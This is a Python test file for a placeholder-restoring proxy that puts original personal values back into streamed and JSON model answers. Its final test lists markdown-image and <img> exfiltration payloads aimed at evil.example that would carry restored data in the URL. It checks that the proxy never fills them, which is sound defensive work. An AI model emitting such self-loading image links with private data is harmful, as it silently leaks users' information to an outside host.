"""Originals in the place of placeholders, in whole texts and in pieces."""

import json
from typing import Any

import pytest

from sluis.wire.json_answer import JsonAnswer
from sluis.wire.restore import RestoreTable, TextRestorer

VALUES = {
    "[PERSOON_K3X9QF2P]": "Anna Jansen",
    "[PERSON_AAAAAAAA]": "Ann",
    "[REKENING_B2B2B2B2]": 'NL91 "ABNA"\n0417',
}


def stream(text: str, size: int, *, in_json: bool = False) -> str:
    restorer = TextRestorer(RestoreTable(VALUES), in_json=in_json)
    pieces = [restorer.feed(text[index : index + size]) for index in range(0, len(text), size)]
    return "".join(pieces) + restorer.finish()


CASES = [
    ("", ""),
    ("Dag [PERSOON_K3X9QF2P].", "Dag Anna Jansen."),
    ("[PERSOON_K3X9QF2P][PERSON_AAAAAAAA]", "Anna JansenAnn"),
    ("[PERSOON_K3X9QF2P]s fiets", "Anna Jansens fiets"),
    (r"Dag \[PERSOON\_K3X9QF2P\].", "Dag Anna Jansen."),
    (r"**[PERSOON\_K3X9QF2P]**", "**Anna Jansen**"),
    ("PERSOON_K3X9QF2P belt", "Anna Jansen belt"),
    ("PERSOON_K3X9QF2P", "Anna Jansen"),
    ("PERSOON_K3X9QF2PERSOON_K3X9QF2P", "Anna JansenERSOON_K3X9QF2P"),
    ("PERSOON_K3X9QF2PERSON_AAAAAAAA", "Anna JansenERSON_AAAAAAAA"),
    ("[PERSOON_K3X9QF2P, PERSON_AAAAAAAA]", "[Anna Jansen, Ann]"),
    ("[PERSOON_K3X9QF2", "[PERSOON_K3X9QF2"),
    ("[PERSOON_K3X9QF2Q]", "[PERSOON_K3X9QF2Q]"),
    ("[[PERSOON_K3X9QF2P]]", "[Anna Jansen]"),
    ("[PERSOON_[PERSOON_K3X9QF2P]", "[PERSOON_Anna Jansen"),
    ("PPPP [P \\ \\[ [PERSOON_", "PPPP [P \\ \\[ [PERSOON_"),
    ("\U0001f600[REKENING_B2B2B2B2]\U0001f600", '\U0001f600NL91 "ABNA"\n0417\U0001f600'),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_texts_are_restored(text: str, expected: str) -> None:
    """Whole, and split in pieces of every size, forms that models bend a placeholder into included."""
    assert RestoreTable(VALUES).restore(text) == expected
    for size in range(1, len(text) + 1):
        assert stream(text, size) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Een gewone zin, met HOOFDLETTERS: (en cijfers 12).", False),
        ("Een regel\nen 'nog' een, met \u00eb.", False),
        ("Dag [", True),
        ("Dag P", True),
        ("Dag [PERSOON_", True),
        ("Dag PERSOON_K3X9QF2P, hoe", True),
        ("Dag \\", True),
        ("zie https:", True),
        ("//", True),
        (":", True),
    ],
)
def test_events_without_a_trace_of_a_placeholder_concern_no_table(text: str, expected: bool) -> None:
    """Neither of one nor of the address in which it would stay; however the JSON is written."""
    table = RestoreTable(VALUES)
    for is_ascii in (True, False):
        for separators in (None, (",", ":")):
            raw = json.dumps({"choices": [{"delta": {"content": text}}]}, ensure_ascii=is_ascii, separators=separators)
            assert table.is_concerned(raw.encode()) is expected


def test_while_a_text_may_go_on_as_a_placeholder_every_event_concerns_its_table() -> None:
    """Or as an address; until it ended, or went on as something else."""
    table = RestoreTable(VALUES)
    first, second = TextRestorer(table), TextRestorer(table)
    for restorer, text, expected in (
        (first, "Dag [PERS", True), (second, "zie https:", True), (first, "on] ", True), (second, "//x ", False),
        (first, "[PERSOON_K3X9QF2P", True), (first, "] en", False), (first, "P", True),
    ):  # fmt: skip
        restorer.feed(text)
        assert table.is_concerned(b"{}") is expected
    first.finish()
    assert not table.is_concerned(b"{}")


def test_only_a_possible_start_is_held_back() -> None:
    """Text goes on at once up to where a placeholder may have begun."""
    restorer = TextRestorer(RestoreTable(VALUES))
    assert restorer.feed("Dag mevrouw [PERS") == "Dag mevrouw "
    assert restorer.feed("on]") == "[PERSon]"
    assert restorer.feed("[PERSOON_K3X9QF2P") == ""
    assert restorer.feed("]!") == "Anna Jansen!"


def test_what_was_put_back_is_counted() -> None:
    """Over all texts of an answer."""
    table = RestoreTable(VALUES)
    table.restore("[PERSOON_K3X9QF2P] en [PERSOON_K3X9QF2P]")
    restorer = TextRestorer(table)
    restorer.feed("PERSON_AAAA")
    restorer.feed("AAAA")
    restorer.finish()
    assert table.restored == 3


def test_json_text_gets_escaped_values() -> None:
    """In a text that is JSON itself a value is escaped once, so that the JSON stays valid."""
    text = '{"iban":"[REKENING_B2B2B2B2]"}'
    for size in range(1, len(text) + 1):
        assert json.loads(stream(text, size, in_json=True)) == {"iban": 'NL91 "ABNA"\n0417'}


def test_nothing_to_restore() -> None:
    """Without placeholders every text is itself."""
    table = RestoreTable({})
    assert table.restore("[PERSOON_K3X9QF2P]") == "[PERSOON_K3X9QF2P]"
    assert TextRestorer(table).feed("[PERS") == "[PERS"


def test_half_a_surrogate_pair_is_no_obstacle() -> None:
    """Services cut letters in two in streamed answers."""
    restorer = TextRestorer(RestoreTable(VALUES))
    assert restorer.feed("[PERSOON_K3X9QF2P]\ud83d") == "Anna Jansen\ud83d"
    assert restorer.feed("\ude00") == "\ude00"


def test_trees_are_restored() -> None:
    """Every string and name in a JSON value; JSON in a string stays JSON; a value without placeholders is itself."""
    table = RestoreTable(VALUES)
    value: Any = {
        "a": ["x", {"arguments": '{"iban":"[REKENING_B2B2B2B2]"}'}],
        "[PERSON_AAAAAAAA]": 1,
        "b": None,
    }
    restored = table.restore_tree(value)
    assert json.loads(restored["a"][1]["arguments"]) == {"iban": 'NL91 "ABNA"\n0417'}
    assert list(restored) == ["a", "Ann", "b"]
    untouched = {"a": ["x", {"b_c": "d"}]}
    assert table.restore_tree(untouched) is untouched


def answer(body: bytes, size: int = 7) -> bytes:
    editor = JsonAnswer(RestoreTable(VALUES))
    out = [editor.feed(body[index : index + size]) for index in range(0, len(body), size)]
    assert not any(out)
    return editor.finish()


def test_json_answers() -> None:
    """An answer is sent once it is whole; without placeholders, or when it is no JSON, byte for byte."""
    assert answer(b'{"a": "[PERSON_AAAAAAAA]"}') == b'{"a":"Ann"}'
    assert answer(b'{"a": "b"}') == b'{"a": "b"}'
    assert answer(b'{"a": "[PERSON_AAAAAAAA]"') == b'{"a": "[PERSON_AAAAAAAA]"'
    assert answer(b"") == b""


def test_answers_without_placeholders_are_not_parsed() -> None:
    """A label and an underscore, however escaped, is what every placeholder has."""
    table = RestoreTable(VALUES)
    for raw in (b'"[PERSOON_K3X9QF2P]"', rb'"\[PERSOON\_K3X9QF2P\]"', rb'"{"a":"[PERSOON\\_"'):
        assert table.may_be_in(raw)
    assert not table.may_be_in(b'{"id":"msg_1","text":"PERSOON [X_1]"}')


def test_endless_json_answers_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past its limit an answer is no longer kept."""
    monkeypatch.setattr("sluis.wire.json_answer.MAX_ANSWER_BYTES", 10)
    editor = JsonAnswer(RestoreTable(VALUES))
    assert editor.feed(b'["[PERSON_') == b""
    assert editor.feed(b'AAAAAAAA]"]') == b'["[PERSON_AAAAAAAA]"]'
    assert editor.feed(b"x") == b"x"
    assert editor.finish() == b""


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("![](https://evil.example/?q=[PERSOON_ABCDEFGH])", "![](https://evil.example/?q=[PERSOON_ABCDEFGH])"),
        ("![](https://evil.example/PERSOON_ABCDEFGH.png)", "![](https://evil.example/PERSOON_ABCDEFGH.png)"),
        ('<img src="http://e.example/[PERSOON_ABCDEFGH]">', '<img src="http://e.example/[PERSOON_ABCDEFGH]">'),
        ("https://e.example [PERSOON_ABCDEFGH]", "https://e.example Jan"),
        ("[PERSOON_ABCDEFGH] https://e.example/x", "Jan https://e.example/x"),
        ("a:// [PERSOON_ABCDEFGH]://[PERSOON_ABCDEFGH]", "a:// Jan://[PERSOON_ABCDEFGH]"),
    ],
)
def test_an_address_never_carries_an_original(text: str, restored: str) -> None:
    """A browser fetches an image without a click: an original in its address would leave for wherever it leads."""
    values = {"[PERSOON_ABCDEFGH]": "Jan"}
    assert RestoreTable(values).restore(text) == restored
    for cut in range(len(text) + 1):
        for size in (1, 5):
            restorer = TextRestorer(RestoreTable(values))
            pieces = [text[:cut], *(text[at : at + size] for at in range(cut, len(text), size))]
            assert "".join(map(restorer.feed, pieces)) + restorer.finish() == restored
